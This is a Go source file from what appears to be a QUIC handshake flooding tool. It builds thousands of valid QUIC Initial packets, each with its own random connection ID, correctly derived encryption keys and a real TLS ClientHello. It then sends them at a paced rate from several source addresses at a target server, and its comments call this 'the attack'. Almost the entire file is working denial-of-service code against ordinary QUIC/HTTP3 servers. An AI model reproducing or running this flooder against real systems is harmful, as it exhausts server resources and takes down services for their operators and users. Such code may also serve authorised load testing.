//go:build linux

package main

import (
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/hkdf"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"net"
)

// initials sends Initial packets of QUIC, whose handshakes never go on.
func (f *flooder) initials() {
	f.count("initials", len(f.packets))
	pace := f.pace(6000)
	f.workers(3*len(f.sources), func(i int) {
		c, err := net.DialUDP("udp", &net.UDPAddr{IP: f.sources[i%len(f.sources)].AsSlice()}, net.UDPAddrFromAddrPort(f.secure))
		if err != nil {
			return
		}
		defer c.Close()
		for n := i; pace.next(); n += 3 * len(f.sources) {
			if _, err := c.Write(f.packets[n%len(f.packets)]); err == nil {
				f.count("datagrams", 1)
			}
		}
	})
}

// makeInitials makes this attacker's packets before the attack begins: it takes a while.
func (f *flooder) makeInitials() error {
	crypto, err := quicHello()
	if err != nil {
		return err
	}
	for range f.share(6000) {
		packet, err := sealInitial(crypto)
		if err != nil {
			return err
		}
		f.packets = append(f.packets, packet)
	}
	return nil
}

// quicHello returns a CRYPTO frame with the ClientHello of a client whose connection id is empty.
func quicHello() ([]byte, error) {
	client := tls.QUICClient(&tls.QUICConfig{TLSConfig: &tls.Config{
		ServerName: webHost, InsecureSkipVerify: true, NextProtos: []string{"h3"}, MinVersion: tls.VersionTLS13,
		CurvePreferences: []tls.CurveID{tls.X25519}, // so that it fits in one packet
	}})
	defer client.Close()
	client.SetTransportParameters([]byte{
		0x04, 4, 0x80, 0x10, 0, 0, // initial_max_data
		0x08, 2, 0x40, 100, // initial_max_streams_bidi
		0x0f, 0, // initial_source_connection_id
	})
	if err := client.Start(context.Background()); err != nil {
		return nil, err
	}
	for {
		switch e := client.NextEvent(); e.Kind {
		case tls.QUICWriteData:
			frame := binary.BigEndian.AppendUint16([]byte{0x06, 0}, 0x4000|uint16(len(e.Data)))
			return append(frame, e.Data...), nil
		case tls.QUICNoEvent:
			return nil, errors.New("crypto/tls says no ClientHello for QUIC")
		}
	}
}

const (
	initialSize = 1200 // bytes, the least that a server answers (RFC 9000 section 14.1)
	initialID   = 8    // bytes of the destination's connection id, which is at offset 6
)

// initialSalt is that of version 1 (RFC 9001 section 5.2).
var initialSalt = []byte{
	0x38, 0x76, 0x2c, 0xf7, 0xf5, 0x59, 0x34, 0xb3, 0x4d, 0x17, 0x9a, 0xe6, 0xa4, 0xc8, 0x0c, 0xad, 0xcc, 0xbb, 0x7f, 0x0a,
}

// sealInitial makes an Initial packet of a connection of its own.
func sealInitial(frames []byte) ([]byte, error) {
	id := make([]byte, initialID)
	rand.Read(id) // never fails
	keys, err := initialKeys(id)
	if err != nil {
		return nil, err
	}
	const numberSize, tag = 4, 16
	packet := append([]byte{0xc0 | numberSize - 1, 0, 0, 0, 1, initialID}, id...)
	packet = append(packet, 0, 0) // no connection id of the client's, no token
	const lengthSize = 2
	at := len(packet) + lengthSize // of the packet's number, which is 0 and so does not change iv
	packet = binary.BigEndian.AppendUint16(packet, 0x4000|uint16(initialSize-at))
	packet = append(packet, make([]byte, numberSize)...)
	payload := make([]byte, initialSize-len(packet)-tag) // the rest is padding
	if copy(payload, frames) < len(frames) {
		return nil, errors.New("the ClientHello does not fit in one packet")
	}
	packet = keys.seal.Seal(packet, keys.iv, payload, packet)
	mask := make([]byte, aes.BlockSize)
	keys.header.Encrypt(mask, packet[at+numberSize:at+numberSize+aes.BlockSize])
	packet[0] ^= mask[0] & 0x0f
	for i := range numberSize {
		packet[at+i] ^= mask[1+i]
	}
	return packet, nil
}

// keys protect the Initial packets of a client (RFC 9001 section 5).
type keys struct {
	seal   cipher.AEAD
	iv     []byte
	header cipher.Block
}

func initialKeys(id []byte) (*keys, error) {
	initial, err := hkdf.Extract(sha256.New, id, initialSalt)
	if err != nil {
		return nil, err
	}
	expand := func(secret []byte, label string, n int) []byte {
		label = "tls13 " + label
		info := append([]byte{0, byte(n), byte(len(label))}, label...)
		out, expandErr := hkdf.Expand(sha256.New, secret, string(append(info, 0)), n)
		err = errors.Join(err, expandErr)
		return out
	}
	secret := expand(initial, "client in", sha256.Size)
	key, iv, header := expand(secret, "quic key", 16), expand(secret, "quic iv", 12), expand(secret, "quic hp", 16)
	if err != nil {
		return nil, err
	}
	block, err := aes.NewCipher(key)
	if err != nil {
		return nil, err
	}
	k := &keys{iv: iv}
	if k.seal, err = cipher.NewGCM(block); err != nil {
		return nil, err
	}
	k.header, err = aes.NewCipher(header)
	return k, err
}
